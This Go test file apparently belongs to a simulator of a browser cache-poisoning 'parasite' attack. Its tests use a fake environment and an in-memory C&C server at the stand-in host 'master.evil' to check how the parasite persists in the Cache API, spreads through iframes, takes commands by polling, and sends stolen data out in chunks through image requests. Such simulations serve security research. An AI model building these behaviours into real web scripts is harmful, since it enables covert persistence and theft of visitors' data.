package parasite

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"masterparasite/internal/cnc"
	"masterparasite/internal/dom"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/script"
)

// fakeEnv is a programmable script.Env: image requests are routed to an
// in-memory cnc.MasterServer, fetches to a page map. It exercises the
// parasite behaviour without a browser.
type fakeEnv struct {
	host      string
	scriptURL string
	doc       *dom.Document
	master    *cnc.MasterServer
	pages     map[string][]byte // url → body served by Fetch
	storage   map[string]string

	fetches   []string
	noCaches  []string
	iframes   []string
	anchored  map[string]*httpsim.Response
	imageURLs []string
}

func newFakeEnv(host, scriptURL string) *fakeEnv {
	return &fakeEnv{
		host: host, scriptURL: scriptURL,
		doc:      dom.NewDocument(host + "/"),
		master:   cnc.NewMasterServer(),
		pages:    make(map[string][]byte),
		storage:  make(map[string]string),
		anchored: make(map[string]*httpsim.Response),
	}
}

var _ script.Env = (*fakeEnv)(nil)

func (f *fakeEnv) Now() time.Duration              { return 42 * time.Second }
func (f *fakeEnv) PageURL() string                 { return f.host + "/" }
func (f *fakeEnv) PageHost() string                { return f.host }
func (f *fakeEnv) ScriptURL() string               { return f.scriptURL }
func (f *fakeEnv) Document() *dom.Document         { return f.doc }
func (f *fakeEnv) UserAgent() string               { return "fake/1.0" }
func (f *fakeEnv) Cookies(string) string           { return "" }
func (f *fakeEnv) SetCookie(string, string)        {}
func (f *fakeEnv) LocalStorage() map[string]string { return f.storage }

func (f *fakeEnv) Fetch(url string, cb func(*httpsim.Response, error)) {
	f.fetches = append(f.fetches, url)
	body, ok := f.pages[url]
	if !ok {
		cb(httpsim.NewResponse(404, nil), nil)
		return
	}
	cb(httpsim.NewResponse(200, body), nil)
}

func (f *fakeEnv) FetchNoCache(url string, cb func(*httpsim.Response, error)) {
	f.noCaches = append(f.noCaches, url)
	f.Fetch(url, cb)
}

func (f *fakeEnv) AddIframe(url string) { f.iframes = append(f.iframes, url) }

func (f *fakeEnv) AddImage(url string, onload func(int, int, bool)) {
	f.imageURLs = append(f.imageURLs, url)
	// Route master-host images through the real C&C server.
	if strings.HasPrefix(url, "master.evil/") {
		req, err := http.NewRequest(http.MethodGet, "http://m/"+strings.TrimPrefix(url, "master.evil/"), nil)
		if err != nil {
			if onload != nil {
				onload(0, 0, false)
			}
			return
		}
		rec := httptest.NewRecorder()
		f.master.ServeHTTP(rec, req)
		if onload == nil {
			return
		}
		if rec.Code != 200 {
			onload(0, 0, false)
			return
		}
		d, err := cnc.ParseSVG(rec.Body.Bytes())
		if err != nil {
			onload(1, 1, true)
			return
		}
		onload(int(d.W), int(d.H), true)
		return
	}
	if onload != nil {
		onload(1, 1, true)
	}
}

func (f *fakeEnv) CacheAPIPut(url string, resp *httpsim.Response) { f.anchored[url] = resp }

func infectedBody() []byte {
	return script.Embed([]byte("function lib(){}"), "parasite", "s1")
}

func setup(t *testing.T, host string) (*Registry, *Config, *fakeEnv, *script.Runtime) {
	t.Helper()
	reg := NewRegistry()
	cfg := NewConfig("s1", "bot-u", "master.evil")
	reg.Add(cfg)
	rt := script.NewRuntime()
	RegisterBehaviors(rt, reg)
	env := newFakeEnv(host, host+"/lib.js")
	env.pages[host+"/lib.js"] = infectedBody()
	return reg, cfg, env, rt
}

func exec(t *testing.T, rt *script.Runtime, env *fakeEnv) {
	t.Helper()
	if _, err := rt.Execute(env, infectedBody()); err != nil {
		t.Fatal(err)
	}
}

func TestRunReloadsOriginalWithCacheBuster(t *testing.T) {
	reg, _, env, rt := setup(t, "top1.com")
	exec(t, rt, env)
	if reg.Reloads() != 1 {
		t.Fatalf("reloads = %d", reg.Reloads())
	}
	found := false
	for _, u := range env.noCaches {
		if strings.HasPrefix(u, "top1.com/lib.js?t=") {
			found = true
		}
	}
	if !found {
		t.Fatalf("no cache-busted reload in %v", env.noCaches)
	}
}

func TestRunAnchorsInCacheAPI(t *testing.T) {
	reg, _, env, rt := setup(t, "top1.com")
	exec(t, rt, env)
	resp, ok := env.anchored["top1.com/lib.js"]
	if !ok {
		t.Fatal("no Cache API anchor")
	}
	if !script.Infected(resp.Body) {
		t.Fatal("anchored copy not infected")
	}
	if !strings.Contains(resp.Header.Get("Cache-Control"), "max-age=31536000") {
		t.Fatal("anchor lifetime not maximised")
	}
	if reg.Anchors() != 1 {
		t.Fatalf("anchors = %d", reg.Anchors())
	}
}

func TestNoAnchorForCleanCopy(t *testing.T) {
	_, _, env, rt := setup(t, "top1.com")
	env.pages["top1.com/lib.js"] = []byte("function lib(){}") // clean
	exec(t, rt, env)
	if len(env.anchored) != 0 {
		t.Fatal("anchored a clean copy")
	}
}

func TestPropagationTargetsFramedOnce(t *testing.T) {
	_, cfg, env, rt := setup(t, "top1.com")
	cfg.PropagationTargets = []string{"top2.com", "top3.com", "top1.com"}
	exec(t, rt, env)
	if len(env.iframes) != 2 {
		t.Fatalf("iframes = %v (own origin must be skipped)", env.iframes)
	}
	// Second activation on the same origin must not re-frame.
	env.iframes = nil
	exec(t, rt, env)
	if len(env.iframes) != 0 {
		t.Fatalf("re-propagated on second run: %v", env.iframes)
	}
}

func TestCNCPollExecutesCommand(t *testing.T) {
	reg, cfg, env, rt := setup(t, "top1.com")
	var gotParams string
	cfg.Modules["echo"] = func(_ script.Env, params string, exfil Exfil) error {
		gotParams = params
		exfil("echo", []byte("echoed:"+params))
		return nil
	}
	env.master.QueueCommand("bot-u", []byte("echo|ping-1"))
	exec(t, rt, env)
	if gotParams != "ping-1" {
		t.Fatalf("params = %q", gotParams)
	}
	if reg.Commands() != 1 {
		t.Fatalf("commands = %d", reg.Commands())
	}
	loot, ok := env.master.Upload("bot-u", "echo")
	if !ok || string(loot) != "echoed:ping-1" {
		t.Fatalf("loot = %q ok=%v", loot, ok)
	}
}

func TestCNCCommandNotReplayed(t *testing.T) {
	_, cfg, env, rt := setup(t, "top1.com")
	runs := 0
	cfg.Modules["once"] = func(script.Env, string, Exfil) error {
		runs++
		return nil
	}
	env.master.QueueCommand("bot-u", []byte("once|"))
	exec(t, rt, env)
	exec(t, rt, env)
	if runs != 1 {
		t.Fatalf("command ran %d times", runs)
	}
}

func TestUnknownModuleIgnored(t *testing.T) {
	reg, _, env, rt := setup(t, "top1.com")
	env.master.QueueCommand("bot-u", []byte("ghost|x"))
	exec(t, rt, env)
	if reg.Commands() != 0 {
		t.Fatal("unknown module counted as executed")
	}
}

func TestUnknownStrainSilent(t *testing.T) {
	reg := NewRegistry()
	rt := script.NewRuntime()
	RegisterBehaviors(rt, reg)
	env := newFakeEnv("a.com", "a.com/x.js")
	content := script.Embed(nil, "parasite", "never-registered")
	ran, err := rt.Execute(env, content)
	if err != nil || ran != 1 {
		t.Fatalf("ran=%d err=%v", ran, err)
	}
	if len(env.imageURLs) != 0 {
		t.Fatal("unregistered strain did something")
	}
}

func TestExfilStreamsChunkedThroughImages(t *testing.T) {
	_, cfg, env, rt := setup(t, "top1.com")
	big := strings.Repeat("B", 3000) // > 2 chunks at 1024
	cfg.Modules["dump"] = func(_ script.Env, _ string, exfil Exfil) error {
		exfil("dump", []byte(big))
		return nil
	}
	env.master.QueueCommand("bot-u", []byte("dump|"))
	exec(t, rt, env)
	loot, ok := env.master.Upload("bot-u", "dump")
	if !ok || string(loot) != big {
		t.Fatalf("dump loot = %d bytes ok=%v", len(loot), ok)
	}
	uploads := 0
	for _, u := range env.imageURLs {
		if strings.Contains(u, "/up/bot-u/dump/") {
			uploads++
		}
	}
	if uploads != 4 { // 3 chunks + fin
		t.Fatalf("upload image requests = %d, want 4", uploads)
	}
}

func TestInfectedOriginsTracking(t *testing.T) {
	reg, _, env, rt := setup(t, "top1.com")
	exec(t, rt, env)
	env2 := newFakeEnv("top2.com", "top2.com/a.js")
	env2.pages["top2.com/a.js"] = infectedBody()
	env2.master = env.master
	exec(t, rt, env2)
	origins := reg.InfectedOrigins("bot-u")
	if len(origins) != 2 {
		t.Fatalf("origins = %v", origins)
	}
}

func TestInlineScriptSkipsReloadAndAnchor(t *testing.T) {
	reg := NewRegistry()
	cfg := NewConfig("s1", "bot-u", "master.evil")
	reg.Add(cfg)
	rt := script.NewRuntime()
	RegisterBehaviors(rt, reg)
	env := newFakeEnv("a.com", "a.com/#inline")
	exec(t, rt, env)
	if reg.Reloads() != 0 || reg.Anchors() != 0 {
		t.Fatal("inline parasite attempted reload/anchor")
	}
}

func TestCrossOriginScriptNoReload(t *testing.T) {
	// A shared third-party file (analytics) runs cross-origin; its body
	// is opaque, so no reload/anchor — but C&C still operates.
	reg := NewRegistry()
	cfg := NewConfig("s1", "bot-u", "master.evil")
	reg.Add(cfg)
	rt := script.NewRuntime()
	RegisterBehaviors(rt, reg)
	env := newFakeEnv("site.com", "analytics.example/ga.js")
	exec(t, rt, env)
	if reg.Reloads() != 0 {
		t.Fatal("cross-origin script reloaded the original")
	}
	if reg.Polls() != 1 {
		t.Fatalf("polls = %d", reg.Polls())
	}
}
